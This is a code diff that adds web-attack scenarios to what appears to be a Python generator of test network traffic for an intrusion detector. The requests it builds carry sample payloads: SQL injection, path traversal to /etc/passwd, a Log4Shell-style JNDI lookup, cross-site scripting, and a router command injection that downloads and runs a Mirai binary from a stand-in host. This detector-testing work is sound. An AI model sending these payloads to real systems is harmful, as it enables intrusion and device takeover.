@@ -199,6 +199,111 @@ def clean_office(w):
     dns_lookup(w, "mail.example.co.jp", ident=21)
 
 
+# ---- web attacks (detect-webattack.c) ------------------------------------------
+
+WEB_SERVER = ("192.168.1.80", 80)  # an office web server (NAS, router admin page)
+ATTACKER = "198.51.100.30"
+
+
+def web_request(w, server, host, uri, client=ATTACKER, sport=53000, ua="Mozilla/5.0",
+                method="GET"):
+    """One HTTP request and a short answer in its own TCP session."""
+    s = g.TcpSession(w, (client, sport), server, client_mac=GATEWAY_MAC, server_mac=OFFICE_MAC)
+    s.handshake()
+    s.send(a.http_request(host=host, uri=uri, ua=ua, method=method))
+    s.recv(a.http_response(body=b"ok"))
+    s.close()
+
+
+def web_sqli(w):
+    """A tautology in a product id, percent-encoded, next to a password the
+    evidence must not keep, and a long tail the evidence must cut."""
+    web_request(w, WEB_SERVER, "shop.example",
+                "/products.php?id=1%27%20OR%20%271%27%3D%271&password=hunter2&pad=" + "A" * 3000)
+
+
+def web_traversal(w):
+    """Double-encoded ../ sequences reaching for /etc/passwd."""
+    web_request(w, WEB_SERVER, "shop.example", "/static/..%252f..%252f..%252fetc/passwd")
+
+
+def web_rce(w):
+    """A Log4Shell-style ${jndi:...} lookup in the query."""
+    web_request(w, WEB_SERVER, "shop.example", "/api/login?user=$%7Bjndi:ldap://198.51.100.9/a%7D")
+
+
+def web_xss(w):
+    """A script planted through a search box."""
+    web_request(w, WEB_SERVER, "shop.example",
+                "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E")
+
+
+def web_iot(w):
+    """A router exploit fetching a Mirai build, and an office device
+    fetching a botnet file from a bare IP address."""
+    web_request(w, ("192.168.1.1", 8080), "192.168.1.1:8080",
+                "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/bins/mirai.arm7;"
+                "chmod+777+mirai.arm7;./mirai.arm7")
+    http_get(w, ("198.51.100.99", 80), "198.51.100.99", "/mozi.m", client="192.168.1.50",
+             ua="Wget")
+
+
+def web_proxy(w):
+    """An outsider asking the office web server to relay a page."""
+    web_request(w, WEB_SERVER, "www.example.com", "http://www.example.com/")
+
+
+def web_proxy_connect(w):
+    """An outsider asking the office web server for a tunnel (CONNECT)."""
+    web_request(w, WEB_SERVER, "www.example.org:443", "www.example.org:443", method="CONNECT")
+
+
+def web_exe(w):
+    """An office PC fetching a program over plain HTTP."""
+    http_get(w, ("203.0.113.70", 80), "downloads.example.net", "/tools/Setup.EXE?ref=mail")
+
+
+def web_tool_ua(w):
+    """A vulnerability scanner announcing itself."""
+    web_request(w, WEB_SERVER, "shop.example", "/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")
+
+
+def web_scan(w):
+    """One outsider asking for 15 different admin and backup paths."""
+    paths = ["/admin/", "/wp-login.php", "/phpmyadmin/", "/.env", "/backup.zip", "/config.php",
+             "/.git/config", "/server-status", "/login", "/manager/html", "/old/", "/test.php",
+             "/db.sql", "/admin.php", "/setup/"]
+    for i, path in enumerate(paths):
+        web_request(w, WEB_SERVER, "shop.example", path, sport=54000 + i)
+
+
+def web_clean(w):
+    """Ordinary web use that must stay quiet: a page with its many images,
+    styles and scripts, a dozen pages read by an office PC, curl and wget
+    fetching a .zip, a search for ordinary words, python-requests, and an
+    office PC using its proxy (absolute target and CONNECT)."""
+    site = ("203.0.113.80", 80)
+    http_get(w, site, "www.example.com", "/index.html")
+    for i in range(20):
+        ext = ("css", "js", "png", "jpg", "svg")[i % 5]
+        http_get(w, site, "www.example.com", "/assets/item%d.%s" % (i, ext), sport=52010 + i)
+    for i in range(14):
+        http_get(w, site, "www.example.com", "/news/2026/%02d.html" % (i + 1), sport=52040 + i)
+    http_get(w, site, "www.example.com", "/files/manual.zip", sport=52060, ua="curl/8.5.0")
+    http_get(w, site, "www.example.com", "/files/data.zip", sport=52061, ua="Wget/1.21.4")
+    http_get(w, site, "www.example.com", "/search?q=select+a+union+member&lang=ja", sport=52062)
+    http_get(w, site, "www.example.com", "/api/v1/items?page=2", sport=52063,
+             ua="python-requests/2.31.0")
+    http_get(w, site, "www.example.com", "/faq?topic=it%27s+ok+or+not", sport=52064)
+    proxy = ("192.168.1.2", 3128)
+    http_get(w, proxy, "www.example.com", "http://www.example.com/index.html", sport=52065)
+    s = g.TcpSession(w, (OFFICE_PC, 52066), proxy, client_mac=OFFICE_MAC, server_mac=GATEWAY_MAC)
+    s.handshake()
+    s.send(a.http_request(host="www.example.org:443", uri="www.example.org:443",
+                          method="CONNECT"))
+    s.close()
+
+
 SCENARIOS = {
     "intel": intel_traffic,
     "windows-xp": windows_xp,
@@ -214,6 +319,17 @@ SCENARIOS = {
     "beacon": beacon,
     "cleartext": cleartext,
     "clean": clean_office,
+    "web-sqli": web_sqli,
+    "web-traversal": web_traversal,
+    "web-rce": web_rce,
+    "web-xss": web_xss,
+    "web-iot": web_iot,
+    "web-proxy": web_proxy,
+    "web-proxy-connect": web_proxy_connect,
+    "web-exe": web_exe,
+    "web-tool-ua": web_tool_ua,
+    "web-scan": web_scan,
+    "web-clean": web_clean,
 }
 
 
